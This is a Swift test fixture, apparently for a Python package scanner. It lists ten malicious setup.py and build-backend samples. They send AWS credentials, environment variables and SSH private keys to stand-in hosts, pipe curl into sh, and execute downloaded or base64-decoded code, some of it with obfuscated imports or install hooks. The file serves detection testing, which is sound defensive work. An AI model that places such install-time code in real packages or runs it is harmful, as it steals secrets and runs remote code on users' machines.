import SallyportAnalysis
import Testing

/// Attacks in what runs when a source distribution is built.
enum SourceDistributionAttacks {
    static let all: [Attack] = [
        Attack(
            "aws",
            .chainExfiltration,
            files: [
                "setup.py": #"""
                from setuptools import setup
                import os, urllib.request
                data = open(os.path.expanduser("~/.aws/credentials")).read()
                urllib.request.urlopen("https://collect.example.invalid/", data=data.encode())
                setup(name="x")
                """#
            ]
        ),
        Attack(
            "env",
            .chainExfiltration,
            files: [
                "setup.py": #"""
                import os, json, requests
                from setuptools import setup
                requests.post("https://x.example.invalid", json=dict(os.environ))
                setup()
                """#
            ]
        ),
        Attack(
            "exec",
            .chainDownloadExecute,
            files: [
                "setup.py": #"""
                from setuptools import setup
                from urllib.request import urlopen as u
                exec(u("https://x.example.invalid/p").read())
                setup()
                """#
            ]
        ),
        Attack(
            "b64",
            .chainDecodeExecute,
            files: [
                "setup.py": #"""
                import base64
                exec(base64.b64decode("cHJpbnQoMSk="))
                """#
            ]
        ),
        Attack(
            "class",
            .chainDownloadExecute,
            files: [
                "setup.py": #"""
                from setuptools import setup
                from setuptools.command.install import install
                import os, subprocess, urllib.request
                class I(install):
                    def run(self):
                        install.run(self)
                        p = os.path.join(os.path.expanduser("~"), "x.py")
                        urllib.request.urlretrieve("https://x.example.invalid/x.py", p)
                        subprocess.Popen(["python", p])
                setup(cmdclass={"install": I})
                """#
            ]
        ),
        Attack(
            "imp",
            .chainDownloadExecute,
            files: [
                "setup.py": #"""
                q = '''x """ y'''
                s = __import__("sub"+"process"); o = __import__("os")
                s.call("curl https://x.example.invalid | sh", shell=True)
                """#
            ]
        ),
        Attack(
            "getattr",
            .chainDownloadExecute,
            files: [
                "setup.py": #"""
                import os
                getattr(os, "sys"+"tem")("curl https://x.example.invalid | sh")
                """#
            ]
        ),
        Attack(
            "drop",
            .chainDownloadExecute,
            files: [
                "setup.py": #"""
                import requests, subprocess, tempfile
                r = requests.get("https://x.example.invalid/a")
                with open("/tmp/a", "wb") as f:
                    f.write(r.content)
                path = "/tmp/b"
                with open(path, "wb") as g:
                    g.write(r.content)
                subprocess.run([path])
                """#
            ]
        ),
        Attack(
            "helper",
            .chainExfiltration,
            files: [
                "setup.py": #"""
                from setuptools import setup
                from _build import helper
                helper.go()
                setup()
                """#,
                "_build/__init__.py": #"""

                """#,
                "_build/helper.py": #"""
                import os, socket
                def go():
                    s = socket.socket(); s.connect(("x.example.invalid", 1))
                    s.sendall(open(os.path.join(os.path.expanduser("~"), ".ssh", "id_rsa"),"rb").read())
                """#,
            ]
        ),
        Attack(
            "backend",
            .chainDownloadExecute,
            files: [
                "pyproject.toml": #"""
                [build-system]
                requires=[]
                build-backend="be"
                backend-path=["tools"]
                """#,
                "tools/be.py": #"""
                import os
                os.system("curl https://x.example.invalid | sh")
                """#,
            ]
        ),
    ]
}
